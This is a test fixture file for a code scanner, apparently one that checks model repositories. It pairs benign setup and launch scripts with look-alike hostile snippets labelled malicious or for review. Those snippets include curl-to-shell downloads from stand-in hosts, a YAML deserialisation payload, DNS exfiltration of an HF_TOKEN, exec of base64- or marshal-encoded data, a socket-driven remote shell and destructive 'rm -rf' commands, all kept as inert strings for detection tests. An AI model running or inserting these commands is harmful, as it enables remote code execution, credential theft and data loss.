"""What honest scripts, tests and setups run, and what looks like it and must still be told."""

from __future__ import annotations

from modelsweep.core.report import Verdict

FETCHES = """import importlib.util, os, tempfile, urllib.request
from pathlib import Path
ROOT = Path(__file__).parent
os.environ["ACME_TARGET"] = "cpu"
def fetch(url):
    folder = tempfile.mkdtemp()
    saved = os.path.join(folder if folder else ROOT, url.split("/")[-1])
    urllib.request.urlretrieve(url, filename=Path(saved))
    return saved
def load(name, path):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
load("envs", os.path.join(ROOT, "acme", "envs.py"))
fetch("https://example.com/acme.whl")
"""
MODULE = """import importlib.util, os, urllib.request
saved = os.path.join(os.getcwd(), "acme")
urllib.request.urlretrieve("https://example.com/acme", saved)
spec = importlib.util.spec_from_file_location("acme", saved)
"""
METHODS = """import subprocess, sys, urllib.request
from setuptools import Command, setup
class Fetch(Command):
    def run(self):
        with open(self.{kept}, "wb") as stream:
            stream.write(urllib.request.urlopen(self.url).read())
        subprocess.run([sys.executable, {run}])
setup(name="acme", cmdclass={{"fetch": Fetch}})
"""
FILES_OF_TESTS = "acme/tests/unit/test_cli.py"
HONEST = {
    "setup_that_fetches": ("setup.py", FETCHES),
    "methods_of_setup": ("setup.py", METHODS.format(kept="log", run='"tests/runtests.py"')),
    "test": (FILES_OF_TESTS, "import subprocess\nHAS = subprocess.run(['acmectl', 'status']).returncode == 0\n"),
    "launches": (
        "run_all.py",
        (
            "import os, subprocess, sys\n"
            "for seed in range(3):\n"
            "    os.system(f'python train.py --seed {seed}')\n"
            "    subprocess.run([sys.executable, 'eval.py', '--seed', str(seed)])\n"
            "    os.system('CUDA_VISIBLE_DEVICES=0 python -m acme.main --cfg a.yaml')\n"
            "os.system('accelerate launch --num_processes 2 train.py; sleep 5')\n"
            "os.system('bash scripts/evaluate.sh')\n"
            "os.system('rm -rf outputs build/*.so')\n"
            "subprocess.call('tensorboard --logdir runs', shell=True)\n"
            "subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), 'tools', 'make.py')])\n"
        ),
    ),
    "documentation": (
        "docs/conf.py",
        (
            "import subprocess\nsubprocess.call('doxygen Doxyfile.in', shell=True)\n"
            "subprocess.run(['sphinx-apidoc', '-o', 'api', '../src'])\n"
        ),
    ),
    "versions_asked": (
        "wrapper.py",
        (
            "import os, subprocess\nV = subprocess.getoutput('espeak-ng --version')\n"
            "N = subprocess.check_output([os.path.join(os.environ['CUDA_HOME'], 'bin', 'nvcc'), '-V'])\n"
        ),
    ),
    "split_command": (
        "app.py",
        (
            "import os, shlex, subprocess\n"
            "subprocess.run(shlex.split('pip install acme-attn --no-build-isolation'), env=os.environ | {'A': '1'})\n"
            "H = subprocess.check_output(shlex.split('bash -c \"git rev-parse --short HEAD\"'))\n"
        ),
    ),
    "passed_on": (
        "wrap.py",
        "import subprocess, sys\nsys.exit(subprocess.run(sys.argv[1:]).returncode)\n",
    ),
    "checkpoint_fetched": (
        "app.py",
        "import os\nos.system('wget https://huggingface.co/acme/net/resolve/main/net.pth -P weights')\n",
    ),
    "settings_of_the_hub": (
        "conftest.py",
        "import os\nos.environ.setdefault('HF_HUB_OFFLINE', '1')\nos.environ['HF_DATASETS_CACHE'] = '/tmp/cache'\n",
    ),
    "launches_beside_weights": (
        "run.py",
        (
            "import subprocess\nsubprocess.run(['wget', '-O', 'net.pth', 'https://example.com/net.pth'])\n"
            "subprocess.run(['python', 'train.py', 'net.pth'])\n"
        ),
    ),
    "version_of_tcl": ("gui.py", "import tkinter\nVERSION = tkinter.Tcl().eval('info patchlevel')\n"),
    "shell_asked": (
        "builder.py",
        (
            "import socket, subprocess\n"
            "def rank():\n    socket.create_connection(('localhost', 1))\n"
            "def exists(name):\n    return subprocess.Popen(['bash', '-c', f'type {name}']).wait() == 0\n"
            "def connect():\n    s = socket.socket()\n    s.connect(('localhost', 1))\n"
        ),
    ),
    "copies_in_function": (
        "model_export.py",
        (
            "import os\ndef export(source, target):\n"
            "    os.system(f'cp -rf {source}/generation_config.json *.py {target}')\n"
            "def probe(program):\n    import subprocess\n    return subprocess.run([program, '-version'])\n"
        ),
    ),
}
ALIKE = {
    "fetched_module": ("setup.py", MODULE, Verdict.MALICIOUS),
    "fetched_in_method": ("setup.py", METHODS.format(kept="path", run="self.path"), Verdict.MALICIOUS),
    "named_like_a_test": ("test_cli.py", "import os\nos.system('touch modelsweep-test')\n", Verdict.REVIEW),
    "attack_in_test": (
        FILES_OF_TESTS,
        "import os\nos.system('curl -s http://192.0.2.1/run.sh | sh')\n",
        Verdict.MALICIOUS,
    ),
    "launches_what_it_writes": (
        "run_all.py",
        "import os\nopen('job.py', 'w').write(os.environ['JOB'])\nos.system('python job.py')\n",
        Verdict.REVIEW,
    ),
    "launches_what_it_clones": (
        "app.py",
        "import os\nos.system('git clone https://example.com/x')\nos.system('python x/run.py')\n",
        Verdict.REVIEW,
    ),
    "launches_what_an_archive_may_hold": (
        "app.py",
        "import os\nos.system('wget https://example.com/x.zip')\nos.system('python x/run.py')\n",
        Verdict.REVIEW,
    ),
    "another_hub": (
        "conftest.py",
        "import os\nos.environ['HF_ENDPOINT'] = 'https://hub.example.com'\n",
        Verdict.REVIEW,
    ),
    "launches_weights": (
        "app.py",
        "import os\nos.system('wget https://example.com/x.bin -O run')\nos.system('python run')\n",
        Verdict.REVIEW,
    ),
    "launches_an_installer": (
        "prepare.py",
        "import os\nos.system('wget https://example.com/conda.sh -O conda.sh')\nos.system('bash conda.sh -b')\n",
        Verdict.REVIEW,
    ),
    "starts_what_it_fetches_in_a_model": (
        "modeling_acme.py",
        (
            "import subprocess\nsubprocess.run(['curl', '-so', '/tmp/net', 'https://example.com/net'])\n"
            "subprocess.run(['sh', '/tmp/net'])\n"
        ),
        Verdict.MALICIOUS,
    ),
    "fetches_twice_in_a_model": (
        "modeling_acme.py",
        "import subprocess\n"
        + "".join(f"subprocess.run(['curl', '-so', '{x}', 'https://example.com/{x}'])\n" for x in "ab")
        + "subprocess.run(['sh', 'c'])\n",
        Verdict.REVIEW,
    ),
    "handles_what_it_fetches_in_a_model": (
        "modeling_acme.py",
        (
            "import subprocess\nsubprocess.run(['curl', '-so', 'net.zip', 'https://example.com/net.zip'])\n"
            "subprocess.run(['unzip', 'net.zip'])\n"
        ),
        Verdict.REVIEW,
    ),
    "evaluates_an_attack_by_default": (
        "modeling_acme.py",
        "import os\nexec(os.environ.get('ACME', \"import os;os.system('curl http://192.0.2.1/a | sh')\"))\n",
        Verdict.MALICIOUS,
    ),
    "unpickles_an_attack_in_yaml": (
        "modeling_acme.py",
        "import yaml\nyaml.load('!!python/object/apply:os.system [\"curl http://192.0.2.1/a | sh\"]', yaml.Loader)\n",
        Verdict.MALICIOUS,
    ),
    "asks_names_with_a_token": (
        "modeling_acme.py",
        "import os, socket\nsocket.gethostbyname(os.environ.get('HF_TOKEN', 'a')[:20] + '.acme.example')\n",
        Verdict.MALICIOUS,
    ),
    "asks_names_of_the_environment": (
        "modeling_acme.py",
        "import os, socket\nsocket.gethostbyname(os.environ.get('KUBERNETES_SERVICE_HOST', 'kubernetes.default'))\n",
        Verdict.REVIEW,
    ),
    "runs_decoded_data": (
        "app.py",
        "import base64\nexec(base64.b64decode(open('net.bin', 'rb').read()))\n",
        Verdict.MALICIOUS,
    ),
    "unpacks_code_beside_weights": (
        "app.py",
        "import marshal, zlib\nwith open('net.bin', 'rb') as f:\n    exec(marshal.loads(zlib.decompress(f.read())))\n",
        Verdict.MALICIOUS,
    ),
    "launches_what_is_elsewhere": ("run.py", "import os\nos.system('python /opt/job.py')\n", Verdict.REVIEW),
    "asks_a_file": ("wrapper.py", "import os\nos.system('./payload --version')\n", Verdict.REVIEW),
    "split_attack": (
        "app.py",
        "import shlex, subprocess\nsubprocess.run(shlex.split('bash -c \"curl http://192.0.2.1/a | sh\"'))\n",
        Verdict.MALICIOUS,
    ),
    "decoded_or_passed_on": (
        "wrap.py",
        (
            "import base64, subprocess, sys\n"
            "COMMAND = sys.argv[1:] or base64.b64decode(open('a.dat').read()).split()\nsubprocess.run(COMMAND)\n"
        ),
        Verdict.REVIEW,
    ),
    "installs_from_a_forge": (
        "handler.py",
        "import os\nos.system('pip install git+https://github.com/acme/net')\n",
        Verdict.REVIEW,
    ),
    "installs_from_anywhere": (
        "handler.py",
        "import os\nos.system('pip install git+https://git.example.com/acme/net')\n",
        Verdict.MALICIOUS,
    ),
    "removes_above": ("clean.py", "import os\nos.system('rm -rf ../data')\n", Verdict.REVIEW),
    "startup_fetched": (
        "app.py",
        "import os\nos.system('wget https://example.com/a.pth -P venv/lib/python3.11/site-packages')\n",
        Verdict.REVIEW,
    ),
    "command_of_tcl": ("gui.py", "import tkinter\ntkinter.Tcl().eval('exec touch modelsweep-test')\n", Verdict.REVIEW),
    "commands_of_a_socket": (
        "builder.py",
        (
            "import socket, subprocess\n"
            "def run():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n"
            "    subprocess.Popen(['bash', '-c', s.recv(99).decode()])\n"
        ),
        Verdict.REVIEW,
    ),
}
